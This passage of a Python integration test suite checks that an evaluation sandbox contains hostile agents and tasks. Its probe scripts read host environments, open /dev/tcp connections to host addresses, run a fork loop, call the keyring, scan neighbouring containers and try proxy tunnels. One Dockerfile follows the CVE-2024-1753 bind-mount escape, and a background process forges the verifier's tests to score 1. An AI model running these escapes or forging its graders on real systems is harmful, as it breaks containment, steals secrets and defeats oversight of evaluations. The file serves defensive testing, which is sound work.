"""The agent is hostile, and so is the task: each probe is a task whose solve.sh (or test.sh), or
whose Dockerfile (its ``RUN`` steps, run by prewarm's image build), attempts an escape.

One sweep runs every probe at once, through the real pipeline and the default container
sandbox, with the host's proxy set to an authenticating proxy on loopback whose password is a
canary; the assertions check the host afterwards. What each probe tries is in its name.
"""

import asyncio
import ctypes
import json
import logging
import os
import secrets
import socket
import stat
import subprocess
import threading
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from auth_proxy import AuthenticatingProxy
from tasks_factory import BASE_DOCKERFILE, write_task

from prefect_harbor.blocks import HarborBackend
from prefect_harbor.flows import evaluation_sweep
from prefect_harbor.sandbox import ImageBuildError, build_guard, images, prepare_task_image
from prefect_harbor.sandbox.engine import LABEL_OWNER, podman_sync
from prefect_harbor.sandbox.network import NETWORK_NAME, bridge_name, gateway_address
from prefect_harbor.sandbox.owners import owner_token

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("prefect_server")]

CANARY_VARIABLE = "PREFECT_HARBOR_TEST_CANARY"
#: The sweep's model key. The oracle never uses it; two probes get it as a model-backed
#: agent would (an allowed task variable, KEY_VARIABLE) and echo it everywhere they can.
MODEL_KEY = f"sk-isolation-{secrets.token_hex(8)}"
KEY_VARIABLE = "PREFECT_HARBOR_TEST_MODEL_KEY"
#: Waits for the verifier's upload of /tests/test.sh, then tries every way to forge, hide or read
#: the tests: rewrite test.sh to score 1, read it, rename and remove it, add a script with content,
#: and plant a link to a forged script under a name the verifier runs.
FORGE_TESTS = """printf '#!/bin/bash\\necho 1 > /logs/verifier/reward.txt\\n' > /tmp/forged.sh; chmod +x /tmp/forged.sh
nohup bash -c 'for i in $(seq 1200); do
  if [ -e /tests/test.sh ]; then echo seen >> /logs/verifier/forge.txt
    { printf "#!/bin/bash\\necho 1 > /logs/verifier/reward.txt\\n" > /tests/test.sh; cat /tests/test.sh; mv /tests/test.sh /tests/moved.sh
      rm -f /tests/test.sh; echo "echo 1 > /logs/verifier/reward.txt" > /tests/planted.sh; ln -s /tmp/forged.sh /tests/linked.sh; } 2>> /logs/verifier/forge.txt > /dev/null; fi
  sleep 0.05; done' > /dev/null 2>&1 &
ls -A /tests > /logs/agent/tests-before.txt 2>&1; true"""
#: The forge-tests verifier: writes in /tests as a build in place would, records what it sees,
#: scores 0, then runs the planted link (which would score 1, were it followed).
FORGE_TESTS_VERIFIER = (
    "sleep 1; echo built > /tests/built.txt && mkdir -p /tests/build && cp /tests/built.txt /tests/build/ && echo writable > /logs/verifier/written.txt; "
    "cat /tests/planted.sh > /logs/verifier/planted.txt 2>&1; ls -A /tests > /logs/verifier/tests-during.txt; "
    "echo 0 > /logs/verifier/reward.txt; bash /tests/linked.sh > /logs/verifier/linked.txt 2>&1; true"
)
#: A server the verifier checks: a process the agent leaves running must survive into verification.
LEAVE_SERVER = "nohup python3 -m http.server 8765 --bind 127.0.0.1 --directory /tmp > /dev/null 2>&1 & sleep 1"
CHECK_SERVER = (
    "python3 -c \"import urllib.request; urllib.request.urlopen('http://127.0.0.1:8765/', timeout=5)\" "
    "&& echo 1 > /logs/verifier/reward.txt || echo 0 > /logs/verifier/reward.txt"
)
FORK_LIMIT = 128
#: The host's proxy needs this password: containers get the proxy through a relay, never the password.
PROXY_PASSWORD = f"proxy-password-{secrets.token_hex(8)}"
PROXY_ENVIRONMENT = ("HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "no_proxy")
#: Forks until the kernel refuses (children sleep 5 s, then exit so the verifier can run).
FORK_LOOP = f"""python3 - > /logs/agent/forks.txt <<'PY'
import os, time
n = 0
for _ in range({FORK_LIMIT * 2}):
    try:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        n += 1
    except OSError:
        break
print(n)
PY
wait
sleep 6  # the children exit: the verifier needs room to start"""


#: keyctl(KEYCTL_DESCRIBE, KEY_SPEC_USER_KEYRING): describes root's user keyring, which a
#: container without a user namespace shares with the host. Prints the result and errno.
KEYCTL_PROBE = """python3 - > /logs/agent/keyctl.txt <<'PY'
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(256)
print(libc.syscall(250, 6, -4, buffer, 256), ctypes.get_errno(), buffer.value)
PY
true"""
#: Trials at once in the hostile sweep. All 22 at once on 2 cores made each verifier phase (test.sh,
#: plus the sandbox's uploads, copies and tampering evidence) pass its 60 s timeout in a CI run whose
#: other test process was busy too; locally at 22 it took 5-8 s each.
PROBES_AT_ONCE = 8
#: One trial listens on the bridge; its neighbour scans the bridge's subnet for it.
NEIGHBOUR_LISTENS = """timeout 40 python3 -c "
import socket
s = socket.create_server(('0.0.0.0', 9999)); s.settimeout(40)
try:
    c, a = s.accept(); print('connection from', a)
except OSError:
    pass
" > /logs/agent/accepted.txt; true"""
NEIGHBOUR_SCANS = """sleep 4; timeout 30 python3 - > /logs/agent/reached.txt <<'PY'
import concurrent.futures, socket
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect(('192.0.2.255', 9))  # picks the address of the route out, sends nothing
me = probe.getsockname()[0]
net = me.rsplit('.', 1)[0]
def knock(host):
    try:
        socket.create_connection((host, 9999), timeout=1).close(); return host
    except OSError:
        return None
with concurrent.futures.ThreadPoolExecutor(64) as pool:
    for _ in range(3):
        print(*filter(None, pool.map(knock, (f'{net}.{n}' for n in range(1, 255) if f'{net}.{n}' != me))))
PY
true"""


#: Asks the proxy relay (the trial's HTTP_PROXY) for a host listener three ways; prints the first
#: line of each answer (a tunnel would get the listener's silence, or a 200 from the proxy).
PROXY_TUNNEL = """python3 - > /logs/agent/tunnel.txt 2>&1 <<'PY'
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY") or os.environ["http_proxy"])
for request in ("GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n", "CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n",
                "GET http://[::ffff:127.0.0.1]:{port}/ HTTP/1.1\\r\\n\\r\\n"):
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as relay:
        relay.sendall(request.encode())
        try:
            print(relay.recv(200).split(b"\\r\\n")[0].decode())
        except OSError as error:
            print("no answer", error)
PY
true"""
#: Ports in the relays' range where no relay runs (relays take the lowest free ones): a host service
#: there must stay out of reach too.
UNRELAYED_PORTS = range(47299, 47249, -1)


class Listener:
    """A TCP listener on all the host's interfaces, IPv4 and IPv6, loopback included; it counts connections."""

    def __init__(self, ports: range | None = None) -> None:
        for port in ports or [0]:
            try:
                self.socket = socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True)
                break
            except OSError:
                if port == (ports or [0])[-1]:
                    raise
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


def why(row: dict) -> str:
    """A row's outcome in words, for an assertion's message: a probe row that failed says why."""
    return f"{row['status']} ({row['err_category']}, {row['err_phase']}): {(row['err_message'] or '')[:600]}"


def host_addresses() -> list[str]:
    """Every IPv4 address of this host's interfaces."""
    listed = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True, check=True).stdout
    return [line.split()[3].split("/")[0] for line in listed.splitlines()]


def bridge_link_local() -> str:
    """The host's link-local address on the trials' bridge, which exists once a container has joined the network."""
    if not Path(f"/sys/class/net/{bridge_name()}").exists():  # a fresh machine: no trial has run yet
        podman_sync("run", "--rm", "--network", NETWORK_NAME, "debian:bookworm-slim", "true").check("bringing up the trials' bridge")
    listed = subprocess.run(["ip", "-6", "-o", "addr", "show", "dev", bridge_name()], capture_output=True, text=True, check=True).stdout
    return next(line.split()[3].split("/")[0] for line in listed.splitlines() if " fe80:" in line)


def add_host_key(payload: str) -> int:
    """add_key("user", ..., @u) on the host: root's user keyring, as a host secret would be."""
    libc = ctypes.CDLL(None, use_errno=True)
    # A description of its own: add_key with another run's description would update (and that run revoke) the same key.
    key = libc.syscall(248, b"user", f"prefect-harbor-canary-{payload}".encode(), payload.encode(), len(payload), -4)
    assert key > 0, f"add_key failed: errno {ctypes.get_errno()}"
    return key


def hostile_dockerfile(reach: str, key: int) -> str:
    """RUN steps that attack the host while prewarm builds the image; their findings stay in /probe for solve.sh to show."""
    keyctl = (
        "import ctypes; l = ctypes.CDLL(None, use_errno=True); b = ctypes.create_string_buffer(256); "
        f"print(l.syscall(250, 6, -4, b, 256), ctypes.get_errno(), b.value, l.syscall(250, 9, {key}, -4), ctypes.get_errno())"
    )
    return BASE_DOCKERFILE + "\n".join([
        "RUN mkdir -p /probe",
        f"RUN {reach.replace('/logs/agent/', '/probe/')}",
        f'RUN python3 -c "{keyctl}" > /probe/keyctl.txt 2>&1; true',
        "RUN unshare -Ur true > /probe/unshare.txt 2>&1; echo rc=$? >> /probe/unshare.txt",
        # The builder's own first process may be out of a step's reach (its capabilities are not the step's): then that is said.
        "RUN env > /probe/build-env.txt; { tr '\\0' '\\n' < /proc/1/environ; } >> /probe/build-env.txt 2>&1; true",
        "RUN apt-get update -qq > /probe/apt.txt 2>&1; echo rc=$? >> /probe/apt.txt",
    ]) + "\n"  # fmt: skip


def escape_dockerfile(host_file: Path, planted: Path) -> str:
    """CVE-2024-1753's shape: a stage's symlink to / as a bind mount's source, read-only and ,rw."""
    # Fresh steps per run: buildah would take a cached step (its cache key ignores the mounted stage) and try nothing.
    fresh = secrets.token_hex(8)
    return (
        f"FROM debian:bookworm-slim AS linkstage\nRUN ln -s / /rootdir && echo {fresh} > /fresh\n" + BASE_DOCKERFILE + "RUN mkdir -p /probe\n"
        f"RUN --mount=type=bind,from=linkstage,source=/rootdir,target=/hostroot cat /hostroot{host_file} > /probe/stolen.txt 2>&1; echo {fresh}\n"
        f"RUN --mount=type=bind,from=linkstage,source=/rootdir,target=/hostroot,rw sh -c 'cat /hostroot{host_file} > /probe/stolen-rw.txt 2>&1; "
        f"echo pwned > /hostroot{planted}'; echo {fresh}\n"
    )


def probes(tasks: Path, port: int, host_file: Path, key: int, unrelayed_port: int) -> dict[str, Path]:
    hosts = " ".join(["127.0.0.1", "localhost", gateway_address(), *host_addresses(), "10.0.2.2", "host.containers.internal"])
    reach = (
        f"for host in {hosts}; do "
        f"timeout 3 bash -c \"echo hi > /dev/tcp/$host/{port}\" 2>/dev/null && echo \"reached $host\"; done > /logs/agent/reach.txt; true"
    )
    show_probe = "cp /probe/* /logs/agent/"
    made = {
        "read-host-environment": write_task(tasks, "read-host-environment", solve="cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' > /logs/agent/environ.txt; env "
            ">> /logs/agent/environ.txt"),
        "write-sysctl": write_task(tasks, "write-sysctl", solve="echo 97 > /proc/sys/kernel/printk_ratelimit_burst; sysctl -w kernel.core_pattern='|/tmp/x' ; true"),
        "reach-loopback-public": write_task(tasks, "reach-loopback-public", solve=reach),
        "reach-loopback-no-network": write_task(tasks, "reach-loopback-no-network", solve=reach),
        "symlink-exit-code": write_task(tasks, "symlink-exit-code", solve=f"rm -f /logs/agent/exit-code.txt; ln -s {host_file} /logs/agent/exit-code.txt; ln -s "
            f"{host_file} /logs/agent/stolen.txt"),
        "symlink-reward": write_task(tasks, "symlink-reward", test=f"ln -sf {host_file} /logs/verifier/reward.txt"),
        "fork-bomb": write_task(tasks, "fork-bomb", solve=FORK_LOOP),
        "read-host-keyring": write_task(tasks, "read-host-keyring", solve=KEYCTL_PROBE),
        "reach-host-over-ipv6": write_task(
            tasks, "reach-host-over-ipv6",
            solve=f"python3 -c \"import socket; socket.create_connection(('{bridge_link_local()}', {port}, 0, socket.if_nametoindex('eth0')), timeout=3); "
                f"print('reached')\" > /logs/agent/reach6.txt 2>&1; true",
        ),  # fmt: skip
        "neighbour-listens": write_task(tasks, "neighbour-listens", solve=NEIGHBOUR_LISTENS),
        "neighbour-scans": write_task(tasks, "neighbour-scans", solve=NEIGHBOUR_SCANS),
        "key-in-reward": write_task(tasks, "key-in-reward", test='echo "{\\"reward\\": \\"$KEY\\"}" > /logs/verifier/reward.json'),
        "key-in-file-name": write_task(tasks, "key-in-file-name", solve='echo $KEY > /logs/agent/name-$KEY.txt; mkdir -p /logs/agent/$KEY; echo "$KEY" >&2'),
        "task-env-pulls-host-secret": write_task(tasks, "task-env-pulls-host-secret", solve="env > /logs/agent/env.txt"),
        "verifier-env-pulls-host-secret": write_task(tasks, "verifier-env-pulls-host-secret", test="env > /logs/verifier/env.txt; echo 1 > /logs/verifier/reward.txt"),
        "forge-tests": write_task(tasks, "forge-tests", solve=FORGE_TESTS, test=FORGE_TESTS_VERIFIER),
        "server-left-running": write_task(tasks, "server-left-running", solve=LEAVE_SERVER, test=CHECK_SERVER),
        "replaced-tar": write_task(
            tasks, "replaced-tar",
            solve="echo solved > /logs/agent/solved.txt; for t in /usr/bin/tar /bin/tar; do printf '#!/bin/sh\\nexit 1\\n' > $t; done; true",
        ),  # fmt: skip
        "unshare-user-namespace": write_task(tasks, "unshare-user-namespace", solve="unshare -Ur true > /logs/agent/unshare.txt 2>&1; echo rc=$? >> /logs/agent/unshare.txt"),
        "reach-unrelayed-port": write_task(
            tasks, "reach-unrelayed-port",
            solve=f"timeout 3 bash -c 'echo hi > /dev/tcp/{gateway_address()}/{unrelayed_port}' > /logs/agent/unrelayed.txt 2>&1; echo rc=$? >> /logs/agent/unrelayed.txt",
        ),  # fmt: skip
        "proxy-tunnel": write_task(tasks, "proxy-tunnel", solve=PROXY_TUNNEL.format(port=port)),
        "hostile-dockerfile": write_task(tasks, "hostile-dockerfile", solve=show_probe),
        "builder-bind-mount-escape": write_task(tasks, "builder-bind-mount-escape", solve=show_probe),
    }
    (made["hostile-dockerfile"] / "environment" / "Dockerfile").write_text(hostile_dockerfile(reach, key))
    (made["builder-bind-mount-escape"] / "environment" / "Dockerfile").write_text(escape_dockerfile(host_file, host_file.parent / "written-by-build.txt"))
    no_network = made["reach-loopback-no-network"] / "task.toml"
    no_network.write_text(no_network.read_text() + '[environment]\nnetwork_mode = "no-network"\n')
    for name, section, variable in (
        ("task-env-pulls-host-secret", "solution.env", CANARY_VARIABLE), ("verifier-env-pulls-host-secret", "verifier.env", CANARY_VARIABLE),
        ("key-in-reward", "environment.env", KEY_VARIABLE), ("key-in-file-name", "environment.env", KEY_VARIABLE),
    ):  # fmt: skip
        toml = made[name] / "task.toml"
        toml.write_text(toml.read_text() + f'[{section}]\n{"LEAKED" if variable == CANARY_VARIABLE else "KEY"} = "${{{variable}}}"\n')
    return made


@pytest.fixture(scope="module")
def hostile_sweep(tmp_path_factory: pytest.TempPathFactory) -> dict:
    tmp_path = tmp_path_factory.mktemp("hostile")
    listener, unrelayed = Listener(), Listener(UNRELAYED_PORTS)
    host_file = tmp_path / "host-canary.txt"
    canary = f"canary-{secrets.token_hex(8)}"
    host_file.write_text(canary)
    key = add_host_key(canary)
    made = probes(tmp_path / "tasks", listener.port, host_file, key, unrelayed.port)
    dataset = tmp_path / "rows.jsonl"
    neighbours_first = sorted(made, key=lambda name: not name.startswith("neighbour-"))
    dataset.write_text("".join(json.dumps({"id": name, "metadata": {"harbor_task_id": name}}) + "\n" for name in neighbours_first))
    sysctl_before = Path("/proc/sys/kernel/printk_ratelimit_burst").read_text()
    proxy = AuthenticatingProxy("prefect-harbor-test", PROXY_PASSWORD)
    saved = {name: os.environ.get(name) for name in PROXY_ENVIRONMENT}
    os.environ.update({"HTTP_PROXY": proxy.url, "HTTPS_PROXY": proxy.url, "NO_PROXY": "127.0.0.1,localhost"})
    os.environ[CANARY_VARIABLE], os.environ[KEY_VARIABLE] = canary, MODEL_KEY
    try:
        backend = HarborBackend(
            tasks_dir=tmp_path / "tasks", task_mode="dataset", agent="oracle", trials_dir=str(tmp_path / "trials"),
            cleanup_successful_trials=False, environment={"kwargs": {"pids_limit": FORK_LIMIT}},
            model_endpoint={"base_url": "http://127.0.0.1:9/v1", "api_key": MODEL_KEY}, task_env_passthrough=[KEY_VARIABLE],
        )  # fmt: skip
        # The neighbours start first and together (they must overlap in time); the rest follow, PROBES_AT_ONCE at a time.
        summary = asyncio.run(evaluation_sweep(dataset=str(dataset), backend=backend, results=str(tmp_path / "results"), concurrency=PROBES_AT_ONCE))
    finally:
        del os.environ[CANARY_VARIABLE], os.environ[KEY_VARIABLE]
        for name, value in saved.items():
            os.environ.pop(name, None) if value is None else os.environ.__setitem__(name, value)
        key_survived = ctypes.CDLL(None).syscall(250, 6, key, ctypes.create_string_buffer(256), 256) > 0  # KEYCTL_DESCRIBE
        ctypes.CDLL(None).syscall(250, 3, key)  # KEYCTL_REVOKE
    rows = {row["row_id"]: row for row in pq.read_table(summary.results_uri).to_pylist()}
    flow_run_id = json.loads((Path(summary.results_uri.removeprefix("file://")).parent / "manifest.json").read_text())["flow_run_id"]
    return {
        "prefect_export": asyncio.run(prefect_export(flow_run_id)),
        "tmp": tmp_path, "rows": rows, "canary": canary, "host_file": host_file, "listener": listener, "unrelayed": unrelayed,
        "sysctl_before": sysctl_before, "trials": tmp_path / "trials", "proxy": proxy, "key_survived": key_survived,
    }  # fmt: skip


async def prefect_export(flow_run_id: str) -> bytes:
    """What the Prefect server holds of the sweep: its flow run, task runs, logs, artifacts and events."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterId, LogFilter, LogFilterFlowRunId
    from prefect.events.filters import EventAnyResourceFilter, EventFilter
    from prefect.logging.handlers import APILogHandler

    await APILogHandler.aflush()
    runs = FlowRunFilter(id=FlowRunFilterId(any_=[flow_run_id]))
    async with get_client() as client:
        events: list = []
        for _ in range(60):  # the server persists events in batches
            page = await client.read_events(EventFilter(any_resource=EventAnyResourceFilter(id=[f"prefect.flow-run.{flow_run_id}"])), limit=50)
            events = page.events
            while page.next_page and len(events) < 5000:
                page = await client.read_events_page(page.next_page)
                events += page.events
            if any(event.event == "prefect.flow-run.Completed" for event in events):
                break
            await asyncio.sleep(0.5)
        parts = [
            (await client.read_flow_run(flow_run_id)).model_dump_json(),
            *(run.model_dump_json() for run in await client.read_task_runs(flow_run_filter=runs)),
            *(log.model_dump_json() for log in await client.read_logs(log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=[flow_run_id])))),
            *(artifact.model_dump_json() for artifact in await client.read_artifacts(flow_run_filter=runs)),
            *(event.model_dump_json() for event in events),
        ]
    return "\n".join(parts).encode()


def agent_file(sweep: dict, task: str, name: str) -> str:
    (found,) = sweep["trials"].rglob(f"{task}*/agent/{name}")
    return found.read_text()


def verifier_folder(sweep: dict, task: str) -> Path:
    (found,) = (path for path in sweep["trials"].rglob(f"{task}*/verifier") if path.is_dir())
    return found


def every_byte_written(sweep: dict) -> bytes:
    blobs = []
    for path in sweep["tmp"].rglob("*"):
        if path.is_file() and not path.is_symlink() and path != sweep["host_file"]:
            blobs.append(path.read_bytes())
    return b"\n".join(blobs)


def test_every_probe_is_recorded(hostile_sweep):
    assert sorted(hostile_sweep["rows"]) == sorted(
        [
            "read-host-environment", "write-sysctl", "reach-loopback-public", "reach-loopback-no-network", "symlink-exit-code",
            "symlink-reward", "fork-bomb", "read-host-keyring", "reach-host-over-ipv6", "neighbour-listens", "neighbour-scans", "replaced-tar",
            "key-in-reward", "key-in-file-name", "task-env-pulls-host-secret", "verifier-env-pulls-host-secret", "forge-tests",
            "server-left-running", "unshare-user-namespace", "reach-unrelayed-port", "hostile-dockerfile", "builder-bind-mount-escape",
            "proxy-tunnel",
        ]
    )  # fmt: skip


def test_the_host_environment_is_invisible(hostile_sweep):
    seen = agent_file(hostile_sweep, "read-host-environment", "environ.txt")
    assert "PATH=" in seen, "the probe did not read any environment"
    assert hostile_sweep["canary"].encode() not in every_byte_written(hostile_sweep)
    assert "PREFECT_API_URL" not in seen and "AWS_SECRET" not in seen


def test_kernel_settings_cannot_be_changed(hostile_sweep):
    assert Path("/proc/sys/kernel/printk_ratelimit_burst").read_text() == hostile_sweep["sysctl_before"]
    assert "|/tmp/x" not in Path("/proc/sys/kernel/core_pattern").read_text()


@pytest.mark.parametrize("task", ["reach-loopback-public", "reach-loopback-no-network"])
def test_host_services_are_unreachable_on_loopback_and_through_the_bridge(hostile_sweep, task):
    """The listener is bound to 0.0.0.0: loopback, the bridge's gateway and the host's own addresses are all tried."""
    assert agent_file(hostile_sweep, task, "reach.txt") == ""
    assert hostile_sweep["listener"].connections == 0


def test_a_planted_symlink_neither_writes_nor_reads_host_files(hostile_sweep):
    canary = hostile_sweep["canary"]
    assert hostile_sweep["host_file"].read_text() == canary, "the host file was overwritten through the trial's logs"
    rows = hostile_sweep["rows"]
    assert rows["symlink-exit-code"]["status"] == "success" and rows["symlink-exit-code"]["reward"] == 1.0, why(rows["symlink-exit-code"])
    assert rows["symlink-reward"]["status"] == "failure"
    assert canary not in (rows["symlink-reward"]["err_message"] or "")
    assert canary.encode() not in every_byte_written(hostile_sweep), "a host file's contents reached the trial's outputs"


def test_a_fork_loop_is_capped_and_the_row_still_recorded(hostile_sweep):
    forks = int(agent_file(hostile_sweep, "fork-bomb", "forks.txt").strip())
    assert forks < FORK_LIMIT, forks
    assert hostile_sweep["rows"]["fork-bomb"]["status"] == "success", why(hostile_sweep["rows"]["fork-bomb"])


def test_no_container_is_left_and_trials_are_not_world_writable(hostile_sweep):
    listed = podman_sync("ps", "-a", "--filter", f"label={LABEL_OWNER}={owner_token()}", "--format", "{{.Names}}").text
    assert listed == "", listed
    for path in [hostile_sweep["trials"], *hostile_sweep["trials"].rglob("*")]:
        if path.is_dir() and not path.is_symlink():
            assert not path.stat().st_mode & stat.S_IWOTH, f"{path} is world-writable"


def test_host_roots_keyring_is_out_of_reach(hostile_sweep):
    result, errno, _ = agent_file(hostile_sweep, "read-host-keyring", "keyctl.txt").split(" ", 2)
    assert result == "-1" and errno != "0", "keyctl worked inside the container"


def test_host_services_are_unreachable_over_ipv6(hostile_sweep):
    assert "reached" not in agent_file(hostile_sweep, "reach-host-over-ipv6", "reach6.txt")
    assert hostile_sweep["listener"].connections == 0


def test_trials_cannot_reach_each_other(hostile_sweep):
    assert agent_file(hostile_sweep, "neighbour-scans", "reached.txt").split() == []
    assert "connection from" not in agent_file(hostile_sweep, "neighbour-listens", "accepted.txt")


def test_the_containers_own_tar_is_never_trusted(hostile_sweep):
    assert agent_file(hostile_sweep, "replaced-tar", "solved.txt").strip() == "solved", "the logs were not copied out"
    assert hostile_sweep["rows"]["replaced-tar"]["status"] == "success", why(hostile_sweep["rows"]["replaced-tar"])


def test_the_model_key_is_in_nothing_the_sweep_wrote_or_told_prefect(hostile_sweep):
    """The key reached the trial (as a model-backed agent's would) and was echoed into
    reward.json, a file name, a folder name and stderr: results, archives, local trial
    trees and the Prefect server's flow run, task runs, logs, artifacts and events lose it."""
    rows = hostile_sweep["rows"]
    assert rows["key-in-reward"]["err_category"] == "verifier_error" and "[REDACTED]" in rows["key-in-reward"]["err_message"], why(rows["key-in-reward"])
    written = every_byte_written(hostile_sweep)
    assert b"[REDACTED]" in written, "the probes never wrote the key: nothing was tested"
    assert MODEL_KEY.encode() not in written
    assert not [p for p in hostile_sweep["tmp"].rglob("*") if MODEL_KEY in p.name], "a file name kept the key"
    export = hostile_sweep["prefect_export"]
    assert b"key-in-reward" in export and b"Sweep " in export, "the Prefect export is empty: nothing was tested"
    assert MODEL_KEY.encode() not in export


@pytest.mark.parametrize("task,section", [("task-env-pulls-host-secret", "solution.env"), ("verifier-env-pulls-host-secret", "verifier.env")])
def test_a_task_cannot_pull_host_variables_it_was_not_given(hostile_sweep, task, section):
    row = hostile_sweep["rows"][task]
    assert (row["status"], row["err_category"]) == ("failure", "validation_error")
    assert f"{CANARY_VARIABLE} (in [{section}] LEAKED)" in row["err_message"] and "task_env_passthrough" in row["err_message"]


def test_the_tests_are_writable_by_the_verifier_and_by_nothing_the_agent_left_running(hostile_sweep):
    """A process the agent left behind waits for /tests/test.sh and tries to forge, read, hide and
    add tests; the verifier itself writes in /tests, as Harbor's upload lets it."""
    row = hostile_sweep["rows"]["forge-tests"]
    assert (row["status"], row["reward"]) == ("success", 0.0), f"a forged test was run, or the row failed: {why(row)}"
    verifier = verifier_folder(hostile_sweep, "forge-tests")
    forger = (verifier / "forge.txt").read_text()
    assert forger.startswith("seen\n"), "the forger was not running during verification"
    for refused in ("/tests/test.sh: Operation not permitted", "cannot move '/tests/test.sh'", "cannot remove '/tests/test.sh'", "/tests/planted.sh: Operation not permitted"):
        assert refused in forger, (refused, forger[:2000])
    assert (verifier / "written.txt").read_text() == "writable\n", "the verifier could not write in /tests"
    assert "echo 1" not in (verifier / "planted.txt").read_text(), "a file the forger filled reached the verifier"
    during = (verifier / "tests-during.txt").read_text().split()
    assert "test.sh" in during and "moved.sh" not in during and {"built.txt", "build"} <= set(during), during
    assert "Too many levels of symbolic links" in (verifier / "linked.txt").read_text(), "a link planted in /tests was followed"
    assert agent_file(hostile_sweep, "forge-tests", "tests-before.txt") == "", "the tests were visible to the agent"


def test_a_server_the_agent_left_running_is_checked_by_the_verifier(hostile_sweep):
    assert hostile_sweep["rows"]["server-left-running"]["reward"] == 1.0, why(hostile_sweep["rows"]["server-left-running"])


def test_a_dockerfiles_run_steps_reach_no_host_service(hostile_sweep):
    """The same addresses as the trials' probe, tried by a RUN step while prewarm builds the image."""
    assert hostile_sweep["rows"]["hostile-dockerfile"]["status"] == "success", why(hostile_sweep["rows"]["hostile-dockerfile"])
    assert agent_file(hostile_sweep, "hostile-dockerfile", "reach.txt") == ""
    assert hostile_sweep["listener"].connections == 0


def test_a_dockerfile_cannot_read_or_unlink_host_roots_keys(hostile_sweep):
    described, _, rest = agent_file(hostile_sweep, "hostile-dockerfile", "keyctl.txt").partition(" ")
    assert described == "-1" and "prefect-harbor-canary" not in rest, rest
    assert hostile_sweep["key_survived"], "a RUN step unlinked the host's key"


def test_the_builders_bind_mount_escape_reads_and_writes_nothing_of_the_host(hostile_sweep):
    """CVE-2024-1753 (Debian 12's buildah): a symlink to / in one stage, bind-mounted from the next, read-only and ,rw."""
    assert hostile_sweep["rows"]["builder-bind-mount-escape"]["status"] == "success", why(hostile_sweep["rows"]["builder-bind-mount-escape"])
    for name in ("stolen.txt", "stolen-rw.txt"):
        assert "No such file" in agent_file(hostile_sweep, "builder-bind-mount-escape", name)
    assert not (hostile_sweep["host_file"].parent / "written-by-build.txt").exists(), "a RUN step wrote into the host's filesystem"
    assert hostile_sweep["canary"].encode() not in every_byte_written(hostile_sweep)


def test_the_proxys_password_never_enters_a_container_an_image_or_anything_written(hostile_sweep):
    """Builds and trials reach the outside through the host's authenticating proxy, by a relay that adds its credentials."""
    build_env = agent_file(hostile_sweep, "hostile-dockerfile", "build-env.txt")
    assert f"HTTPS_PROXY=http://{gateway_address()}:" in build_env and f"http_proxy=http://{gateway_address()}:" in build_env, "the build was not given the proxy"
    assert agent_file(hostile_sweep, "hostile-dockerfile", "apt.txt").endswith("rc=0\n"), "apt did not work through the proxy"
    assert any("deb.debian.org" in target for target in hostile_sweep["proxy"].targets), "apt did not go through the proxy"
    assert hostile_sweep["proxy"].refused == 0
    assert PROXY_PASSWORD.encode() not in every_byte_written(hostile_sweep)
    assert PROXY_PASSWORD.encode() not in hostile_sweep["prefect_export"]


def test_the_proxy_relay_is_no_tunnel_to_the_host(hostile_sweep):
    """Absolute-form, CONNECT and a mapped IPv6 literal for a host listener: each answered 403 by the relay, none passed to the proxy."""
    answers = agent_file(hostile_sweep, "proxy-tunnel", "tunnel.txt").splitlines()
    assert answers == ["HTTP/1.1 403 Forbidden"] * 3, answers
    assert not [target for target in hostile_sweep["proxy"].targets if "127.0.0.1" in target], hostile_sweep["proxy"].targets
    assert hostile_sweep["listener"].connections == 0


@pytest.mark.parametrize("task", ["unshare-user-namespace", "hostile-dockerfile"])
def test_new_user_namespaces_are_refused_in_trials_and_builds(hostile_sweep, task):
    seen = agent_file(hostile_sweep, task, "unshare.txt")
    assert "Operation not permitted" in seen and seen.endswith("rc=1\n"), seen


def test_a_host_service_on_a_relay_port_where_no_relay_runs_is_unreachable(hostile_sweep):
    assert not agent_file(hostile_sweep, "reach-unrelayed-port", "unrelayed.txt").endswith("rc=0\n")
    assert hostile_sweep["unrelayed"].connections == 0


# ------------------------------------------------------------------ the builder's own sandbox
# Builds alone (prewarm's prepare_task_image), each shape with the Dockerfile guard on and with it
# switched off: the builder's container, not the guard, is what must hold.

#: CVE-2024-1753's stage: a symlink to / that the next stage bind-mounts.
LINK_STAGE = "FROM debian:bookworm-slim AS l\nRUN ln -s / /r && echo {fresh}\nFROM debian:bookworm-slim\n"
#: The mount, as each shape the guard once misread writes it: {mount} is the bind mount's options.
MOUNT_SHAPES = {
    "comment-in-continuation": LINK_STAGE + "RUN \\\n# c\n --mount={mount},rw sh -c 'cat /h{secret}; echo p > /h{planted}'; echo {fresh}\n",
    "blank-line-in-continuation": LINK_STAGE + "RUN \\\n\n --mount={mount},rw sh -c 'cat /h{secret}; echo p > /h{planted}'; echo {fresh}\n",
    "escape-directive": "# escape=`\n" + LINK_STAGE + "RUN `\n --mount={mount},rw sh -c 'cat /h{secret}; echo p > /h{planted}'; echo {fresh}\n",
    "read-only": LINK_STAGE + "RUN --mount={mount} cat /h{secret}; echo {fresh}\n",
}
#: ADD of a host listener, as each shape the guard or the downloader once let through writes it.
ADD_SHAPES = {
    "add-quoted-url": 'FROM debian:bookworm-slim\nADD "http://127.0.0.1:{port}/{fresh}" /q\n',
    "add-escaped-colon": "FROM debian:bookworm-slim\nADD http\\://127.0.0.1:{port}/{fresh} /q\n",
